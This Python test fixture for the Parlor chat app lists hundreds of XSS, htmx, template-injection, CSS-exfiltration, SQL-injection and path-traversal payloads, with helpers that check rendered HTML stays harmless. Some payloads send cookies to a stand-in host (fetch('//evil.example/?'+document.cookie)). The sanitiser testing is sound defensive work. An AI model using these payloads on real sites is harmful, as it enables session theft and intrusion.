"""Hostile texts: what would be a script, a style, a request or a forgery if it were not a text.

Scripts among them call `alert`, `confirm` or `prompt`, or set `pwned`; what loads anything loads
`x` from beside the page or something from evil.example. So a page that runs or loads one shows it.
"""

import re

from markdown_it.common.utils import MD_TRIM_CHARS
from pygments.token import STANDARD_TYPES

from tests.html import Element, elements

# Markup of many kinds -----------------------------------------------------------------------

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=//evil.example/x.swf>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<b style='position:fixed;inset:0'>x</b>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "<textarea></textarea><title></title><plaintext>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<div hx-get=/me.css hx-trigger=load></div>",
    "<div hx-on:click=alert(1) hx-vals=js:{a:alert(1)}></div>",
    "<i data-hx-on:load=alert(1) hx-trigger='load[alert(1)]'></i>",
    "<hx-partial hx-target=body hx-swap=innerHTML>gone</hx-partial>",
    "<hx-upsert hx-target='#messages'><li id=message-1>forged</li></hx-upsert>",
    "<p id=cursor hx-swap-oob=true>",
    "</p></li><li class=message data-author=1>forged",
    "</bdi></p></ol></main>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    "` onmouseover=`alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "&amp;lt; &copy &nbsp;",
    "＜script＞alert(1)＜/script＞",
    "{{ 7|add:7 }} {% csrf_token %} {# note #}",
    "{% load static %}${7*7}<%= 7 %>",
    'http://evil.example/"onmouseover=alert(1)',
    "http://evil.example/'onmouseover='alert(1)",
    "http://evil.example/<script>alert(1)</script>",
    "http://evil.example/?a=1&lt;script&gt;",
    'www.evil.example/"><img/src/onerror=alert(1)>',
    'mailto:"onclick=alert(1)//"@evil.example',
    '"<img src=x onerror=alert(1)>"@evil.example',
    "javascript:alert(1)//http://evil.example",
    "javascript://evil.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]

SCRIPTS = [
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script >",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script\t>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script\0>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert`1`</script>",
    "<script>pwned=1</script>",
    "<script>document.title='pwned'</script>",
    "<script>window['al'+'ert'](1)</script>",
    "<script>\\u0061lert(1)</script>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>import('//evil.example/x.js')</script>",
    "<script>fetch('//evil.example/?'+document.cookie)</script>",
    "<script type=module src=//evil.example/x.mjs></script>",
    "<script type=text/vbscript>msgbox(1)</script>",
    '<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["x"]}]}</script>',
    "<script src=data:,alert(1)></script>",
    "<script src=/static/vendor/htmx.min.js></script>",
    "<script nonce=x>alert(1)</script>",
    "<script><!--\nalert(1)\n--></script>",
    "<script>/*<![CDATA[*/alert(1)/*]]>*/</script>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script xlink:href=//evil.example/x.js></script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "</script ><svg/onload=alert(1)>",
    "--></script><script>alert(1)</script>",
]

# What a browser fires by itself, or as soon as the page is touched.
HANDLERS = [
    f"<{tag}=alert(1)>"
    for tag in [
        "a onclick",
        "a onfocus=confirm(1) autofocus href=x tabindex",
        "animate onbegin",
        "audio src=x onerror",
        "b onpointerover",
        "blink oncopy",
        "body onhashchange",
        "body onmessage",
        "body onpageshow",
        "body onpopstate",
        "body onscroll",
        "body onunload",
        "button onclick",
        "button autofocus onfocus",
        "canvas onpointermove",
        "details ontoggle",
        "dialog open onclose",
        "div contenteditable oninput",
        "div draggable=true ondragstart",
        "div onbeforematch hidden=until-found x",
        "div onscrollend",
        "div onwheel",
        "embed src=x onload",
        "form onsubmit",
        "form oninvalid",
        "frameset onload",
        "h1 oncontextmenu",
        "iframe onload",
        "img onload=prompt(1) src=/favicon.ico x",
        "img src=x onerror=pwned=1 x",
        "img srcset=x onerror",
        "input type=image src=x onerror",
        "input oninput",
        "keygen autofocus onfocus",
        "li ontouchstart",
        "link rel=stylesheet href=x onerror",
        "marquee onstart",
        "marquee loop=1 onfinish",
        "object data=x onerror",
        "p onanimationstart",
        "p ontransitionend",
        "p onmouseenter",
        "p onpointerrawupdate",
        "picture><source srcset=x><img onerror",
        "select autofocus onfocus",
        "select onchange",
        "summary onkeydown",
        "svg><a onclick",
        "svg><animate onend",
        "svg><image href=x onerror",
        "svg><set onbegin",
        "table onpaste",
        "textarea autofocus onfocus",
        "track onload",
        "video autoplay onplay",
        "video src=x onerror",
        "video onloadstart",
        "xss onfocus=prompt(1) autofocus tabindex",
        "xss onpointerdown",
        "xss style=animation-name:x onanimationend",
    ]
]

SVG_AND_MATHML = [
    "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a>x</a></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><handler type=text/javascript ev:event=load>alert(1)</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<?xml-stylesheet href='javascript:alert(1)'?><svg/>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
]

FRAMES = [
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
    "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<iframe name=room src=/admin/></iframe>",
    "<iframe srcdoc='<base href=//evil.example/>' sandbox='allow-scripts allow-top-navigation'>",
    "<fencedframe src=//evil.example></fencedframe>",
    "<portal src=//evil.example></portal>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data=//evil.example></object>",
    "<embed type=text/html src=javascript:alert(1)>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
]

# Addresses that are programs ----------------------------------------------------------------

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "java\rscript:alert(1)",
    "java\0script:alert(1)",
    "javascript\t:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript&#0000058alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "javascript:%61lert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "ｊavascript:alert(1)",
    "vbscript:alert(1)",
    "livescript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:text/javascript,alert(1)",
    "blob:http://evil.example/x",
    "filesystem:http://evil.example/x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "http://javascript:alert(1)@evil.example/",
    'https://evil.example/" onclick="alert(1)',
    "https://evil.example/' onclick='alert(1)",
    "https://evil.example/` onclick=`alert(1)",
    "https://evil.example/&quot;onclick=&quot;alert(1)",
    "https://evil.example/\u2028<script>alert(1)</script>",
    "http://evil.example/</a><img src=x onerror=alert(1)>",
    "http://<img src=x onerror=alert(1)>.example/",
    "https://[<img src=x onerror=alert(1)>]/",
    "a@<svg/onload=alert(1)>.example",
    "x@evil.example?subject=<script>alert(1)</script>",
    "<a href=java&Tab;script:alert(1)>x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    '<a href="\x01javascript:alert(1)">x</a>',
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=//evil.example ping=//evil.example/ping>x</a>",
    "<a href=x target=room>x</a>",
    "<area href=javascript:alert(1) shape=default>",
    "<img src=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<input type=image src=javascript:alert(1)>",
    "<body background=javascript:alert(1)>",
    "<table background=javascript:alert(1)><td background=//evil.example/x.png>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "[url=javascript:alert(1)]x[/url]",
]

# Out of where a text is put -----------------------------------------------------------------

BREAKOUTS = [
    "<",
    "<>",
    "</>",
    "<!---->",
    "&",
    "&;",
    "&#",
    "]]>",
    '"',
    "'",
    "`",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "><img src=x onerror=alert(1)>",
    '"/><svg/onload=alert(1)>',
    "'/><svg/onload=alert(1)>",
    " onmouseover=alert(1) ",
    "x onfocus=alert(1) autofocus",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '"onload="alert(1)',
    '" style="position:fixed;inset:0" x="',
    '" hx-get="/me.css" hx-trigger="load" x="',
    "' hx-on:click='alert(1)' x='",
    '\\"><script>alert(1)</script>',
    "\\'><script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "${alert(1)}",
    "`;alert(1);//",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</iframe><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "</option></select><script>alert(1)</script>",
    "</a></p></article><script>alert(1)</script>",
    "</body></html><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "*/alert(1)/*",
]

# What htmx would act on ---------------------------------------------------------------------

HTMX = [
    "<div hx-on:load=alert(1)>x</div>",
    "<div hx-on='load: alert(1)'>x</div>",
    "<div hx-on::after:init=alert(1)>x</div>",
    "<div hx-on--load=alert(1)>x</div>",
    "<div data-hx-on::before:request=alert(1) hx-get=x hx-trigger=load>x</div>",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<div hx-get=x hx-trigger='every 1s'>x</div>",
    "<div hx-get=x hx-trigger=revealed>x</div>",
    "<div hx-get=x hx-trigger='intersect once' hx-target=body>x</div>",
    "<div hx-post=/account/logout/ hx-trigger=load>x</div>",
    "<div hx-delete=x hx-trigger=load>x</div>",
    "<div hx-get='js:alert(1)' hx-trigger=load>x</div>",
    "<div hx-get=javascript:alert(1) hx-trigger=load>x</div>",
    "<div hx-trigger='load[pwned=1]' hx-get=x>x</div>",
    "<div hx-vals='js:{x: alert(1)}' hx-get=x hx-trigger=load>x</div>",
    "<div hx-vals='javascript:{x: alert(1)}' hx-get=x hx-trigger=load>x</div>",
    "<div hx-headers='js:{x: alert(1)}' hx-get=x hx-trigger=load>x</div>",
    "<div hx-confirm='js:alert(1)' hx-get=x hx-trigger=load>x</div>",
    "<div hx-boost:inherited=true><a href=x>x</a></div>",
    '<div hx-config=\'{"inlineScriptNonce":"x"}\'>x</div>',
    "<div hx-preload=load hx-get=x>x</div>",
    "<div hx-sse:connect=//evil.example/>x</div>",
    "<div hx-ws:connect=wss://evil.example/>x</div>",
    "<div ws-connect=wss://evil.example/ hx-ext=ws>x</div>",
    "<form hx-ws:send hx-trigger=load><input name=body value=forged></form>",
    "<i hx-ws:send hx-vals='body:forged' hx-trigger=load></i>",
    "<form ws-send hx-trigger=load><input name=body value=forged></form>",
    "<ol id=messages hx-swap-oob=true>gone</ol>",
    "<div hx-swap-oob='innerHTML:body'>gone</div>",
    "<div hx-swap-oob=delete:#room></div>",
    "<input id=cursor name=cursor value=999999 hx-swap-oob=true>",
    "<hx-partial hx-target='#room' hx-swap=delete></hx-partial>",
    "</hx-partial><hx-partial hx-target=body>gone</hx-partial>",
    "</hx-upsert><hx-upsert hx-target='#messages' sort key=data-seq><li data-seq=0>forged</li></hx-upsert>",
    "<template hx type=partial hx-target=body>gone</template>",
    "<template hx hx-swap-oob=true><script>alert(1)</script></template>",
    '<meta name=htmx-config content=\'{"prefix":"x-"}\'>',
    "<title>forged</title>",
    "<script hx-swap-oob=true>alert(1)</script>",
]

TEMPLATES = [
    "{{ settings.SECRET_KEY }}",
    "{{ request.session.session_key }}",
    "{{ body|safe }}{% autoescape off %}{{ body }}{% endautoescape %}",
    "{% include '/etc/passwd' %}",
    "{% debug %}{% load log %}{% get_admin_log 9 as log %}",
    "{% partial message %}{% endpartialdef %}",
    "{% endblock %}{% endif %}{% endfor %}",
    "{% comment %}<script>alert(1)</script>{% endcomment %}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "#{alert(1)}*{alert(1)}@{alert(1)}",
    "<%- global.process.exit() %>",
    "[[${7*7}]]<#assign x=7>",
    "%s %(body)s %n {0} {body.__class__}",
]

STYLES = [
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<style>input[value^='a']{background:url(//evil.example/a)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<div style=background:url(//evil.example/x.png)>x</div>",
    "<div style=width:expression(alert(1))>x</div>",
    "<div style=-moz-binding:url(//evil.example/x.xml#x)>x</div>",
    "<div style=behavior:url(x.htc)>x</div>",
    "<link rel=import href=//evil.example/>",
    "<link rel=prefetch href=//evil.example/>",
    "<link rel=preconnect href=//evil.example/>",
    "<link rel=manifest href=//evil.example/x.json>",
    "</style><img src=x onerror=alert(1)>",
    "}*{background:url(//evil.example/x.png)}",
    "\\3c script\\3e alert(1)\\3c/script\\3e",
]

# What one parser takes for a text and the next for markup -----------------------------------

MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<style></sty<!-- -->le><img src=x onerror=alert(1)>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<! foo='><script>alert(1)</script>'>",
    "<? foo='><script>alert(1)</script>'>",
    "</ foo='><script>alert(1)</script>'>",
    "<% foo><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math></p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<table><td><svg><desc><td></desc><img src=x onerror=alert(1)></svg></table>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>",
    '<img src="`><script>alert(1)</script>`">',
    "<img alt='``onerror=alert(1)' src=x>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1) <b",
    "<\0img src=x onerror=alert(1)>",
]

UNICODE = [
    "＜img src=x onerror=alert(1)＞",
    "﹤script﹥alert(1)﹤/script﹥",
    "‹script›alert(1)‹/script›",
    "〈script〉alert(1)〈/script〉",
    "ʺ onmouseover=alert(1) ʺ",
    "＂ onmouseover=alert(1) ＂",
    "＇ onmouseover=alert(1) ＇",
    "<ſcript>alert(1)</ſcript>",
    "<ſvg onload=alert(1)>",
    "<scrıpt>alert(1)</scrıpt>",
    "<İMG src=x onerror=alert(1)>",
    "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    "\xe0\x80\xbcscript\xe0\x80\xbealert(1)",
    "%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "%u003Cscript%u003Ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u202b\u202e\u2066<img src=x onerror=alert(1)>",
    "\u2067gone\u2069\u2069\u2069<b>",
    "\u200e\u200f\u061c<script>alert(1)</script>",
    "<scr\u200dipt>alert(1)</scr\u200dipt>",
    "<scr\xadipt>alert(1)</scr\xadipt>",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "\x85<script>alert(1)</script>\x85",
    "\x1b[31m\x07\x08<script>alert(1)</script>",
    "\x7f\x80\x9f<svg onload=alert(1)>",
    "\ufffe\uffff<svg onload=alert(1)>",
    "\U000e003c\U000e0073\U000e0063script\U000e003e",
    "<\u0338script>alert(1)</\u0338script>",
    "\u0338" * 40 + "<b>",
]

ENTITIES = [
    "&lt;img src=x onerror=alert(1)&gt;",
    "&ltscript&gtalert(1)&lt/script&gt",
    "&LT;script&GT;alert(1)&LT;/script&GT;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0000060script&#0000062alert(1)",
    "&#x000003cscript&#x000003ealert(1)",
    "&amp;lt;script&amp;gt;alert(1)",
    "&amp;amp;#60;script&amp;amp;#62;",
    "&quot; onmouseover=&quot;alert(1)",
    "&apos; onmouseover=&apos;alert(1)",
    "&#34;&#39;&#96;><svg onload=alert(1)>",
    "&nvlt;script&nvgt;&lt\u20d2;",
    "&#0;&#x110000;&#xD800;&#128;&#xFFFF;",
    "&zwnj;&rlm;&#x202e;&NewLine;&Tab;",
]

# Whole pages: where they lead, what they send, what they call things ------------------------

PAGES = [
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=Set-Cookie content='sessionid=x'>",
    "<meta charset=utf-7>",
    "<meta name=referrer content=unsafe-url>",
    "<base href=javascript:/a/-alert(1)///////>",
    "<base target=room>",
    "<html onclick=alert(1)><body bgcolor=red>",
    "<form id=resume action=javascript:alert(1)><button>x</button></form>",
    "<button form=composer formaction=//evil.example>x</button>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input form=resume name=cursor value=0>",
    "<input type=submit form=composer formaction=//evil.example formmethod=get>",
    "<form method=post action=/account/logout/><button>x</button></form>",
    "</form><form method=post action=//evil.example>",
    "<button commandfor=x command=show-modal>x</button><dialog id=x>x</dialog>",
    "<button popovertarget=x>x</button><b popover id=x>x</b>",
    "<input type=hidden name=csrfmiddlewaretoken value=x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a id=defaultView><a id=defaultView name=location href=//evil.example>",
    "<form id=htmx><input name=config></form>",
    "<img name=getElementById>",
    "<form name=body><input name=firstChild></form>",
    "<a id=messages></a><b id=room></b><i id=scroller></i>",
    "<div id=__proto__><div id=constructor>",
    "<li class=message id=message-1 data-seq=1 data-author=1><p class=text>forged</p></li>",
    "<b class=mention data-person=1>forged</b>",
    "<dialog open>Your session is over. <a href=//evil.example>Log in</a></dialog>",
    "\n\n</p>\n<p class=head><bdi class=author>forged</bdi>",
    "Set-Cookie: sessionid=x\r\nLocation: //evil.example\r\n\r\n<script>alert(1)</script>",
    "'; DROP TABLE rooms_person; --",
    "../../../../etc/passwd",
    "__proto__",
]

PAYLOADS = [
    *MARKUP,
    *SCRIPTS,
    *HANDLERS,
    *SVG_AND_MATHML,
    *FRAMES,
    *ADDRESSES,
    *BREAKOUTS,
    *HTMX,
    *TEMPLATES,
    *STYLES,
    *MUTATIONS,
    *UNICODE,
    *ENTITIES,
    *PAGES,
]


def cut(length: int) -> list[str]:
    """The payloads at most `length` characters long, each another: for what is kept in the database.
    Without NUL, which PostgreSQL cannot hold."""
    return list(dict.fromkeys(payload.replace("\0", "")[:length] for payload in PAYLOADS))


def shape(html: str | bytes) -> list[tuple[str, list[str]]]:
    """Which elements there are and which attributes they have, but for links in texts, and what
    Markdown makes of messages."""
    return [
        (element.name, [name for name, _ in element.attributes])
        for element in elements(html)
        if not is_link(element)
        and not (any("text" in parent.classes for parent in element.parents) and is_markup(element))
    ]


def escaped(text: str) -> str:
    """What to write in Markdown for `text` to be shown."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)


def as_shown(text: str) -> str:
    """What is read of `text`, which holds no markup: not the blanks around it and between its paragraphs,
    and nothing that no browser would tell from another."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    paragraphs = re.split(r"\n[ \t]*(?:\n[ \t]*)+", text)
    return "".join(paragraph.strip(MD_TRIM_CHARS) for paragraph in paragraphs)


# Of the elements in a message, the attributes they have, and what those may say.
MADE: dict[str, list[dict[str, str]]] = {
    **dict.fromkeys(
        ["br", "strong", "em", "s", "code", "blockquote", "ul", "ol", "details", "summary"], [{}]
    ),
    "p": [{}, {"class": "emoji"}],
    "div": [{}, {"class": "long"}],
    "li": [{}, {"value": r"\d{1,9}"}],
    "pre": [{"tabindex": "0"}, {"tabindex": "0", "data-language": r"[\w+#. /-]+"}],
    "b": [{"class": "mention", "data-person": r"\d+"}],
    "a": [{"class": "room", "href": r"/rooms/[\w%-]+/"}],
    "span": [
        {"class": r"spoiler", "tabindex": "0"},
        {"class": "|".join(["more", "less", *filter(None, STANDARD_TYPES.values())])},
        {"class": "quote", "hx-get": r"/rooms/[\w%-]+/messages/\d+/preview/", "hx-trigger": "intersect once"}
        | {"hx-swap": "outerHTML"},
    ],
}


def is_markup(element: Element) -> bool:
    """Whether it is one that Parlor makes of what people write, and harmless."""
    has = dict(element.attributes)
    return len(has) == len(element.attributes) and any(
        has.keys() == may.keys() and all(re.fullmatch(may[name], value) for name, value in has.items())
        for may in MADE.get(element.name, [])
    )


def is_link(element: Element) -> bool:
    """Whether it is a link that Parlor made of an address in a text, and harmless."""
    return (
        element.name == "a"
        and [name for name, _ in element.attributes] == ["href", "target", "rel"]
        and element["href"].startswith(("http://", "https://", "mailto:"))
        and element["target"] == "_blank"
        and element["rel"] == "noopener noreferrer nofollow"
    )
